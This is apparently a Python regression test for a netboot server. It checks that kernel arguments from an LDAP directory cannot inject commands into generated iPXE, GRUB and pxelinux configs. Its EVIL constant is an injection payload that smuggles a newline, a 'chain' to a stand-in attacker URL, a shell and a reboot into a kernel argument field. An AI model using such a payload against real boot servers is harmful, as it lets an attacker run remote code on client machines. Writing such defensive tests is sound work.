"""Regression (fuzz_ldap): kernel arguments from the directory went verbatim into boot
scripts, so a newline (or iPXE's `||`, GRUB's `;`) in puavoDeviceKernelArguments added a
command to the iPXE/GRUB/pxelinux config. Fixed in bootserverd/resolver.py (cmdline)."""

from tests.fuzz.world import IMAGE, make_resolver

from bootserverd.model.objects import Device

EVIL = "quiet\nchain http://evil.example/x splash || shell ;reboot ${x} \x01ok `id`"


def test_kernel_arguments_cannot_add_a_command():
    device = Device("52:54:00:aa:00:09", hostname="pupil-1", kernel_args=EVIL)
    resolver = make_resolver(devices=(device,))
    line = resolver.cmdline(IMAGE, device)
    # every word stays a kernel argument; the separators and expansions are gone
    assert line.endswith(" quiet chain http://evil.example/x splash shell ok")
    ipxe = resolver.render("ipxe", device.mac, "10.0.0.5").decode().splitlines()
    kernel = [l for l in ipxe if l.startswith("kernel ")]
    assert len(kernel) == 1 and kernel[0].endswith(line + " || goto netboot_failed")
    assert not any(l.startswith("chain") for l in ipxe)
    for fmt in ("grub.cfg", "pxelinux.cfg"):
        text = resolver.render(fmt, device.mac, "10.0.0.5").decode()
        assert not any(l.lstrip().startswith(("chain", "reboot")) for l in text.splitlines())
        assert "\x01" not in text and "${x}" not in text and ";reboot" not in text


def test_ordinary_kernel_arguments_unchanged():
    device = Device("52:54:00:aa:00:0a", kernel_args="quiet splash acpi_osi=Linux i915.modeset=1 a,b=c:d/e")
    line = make_resolver(devices=(device,)).cmdline(IMAGE, device)
    assert line.endswith("quiet splash acpi_osi=Linux i915.modeset=1 a,b=c:d/e")
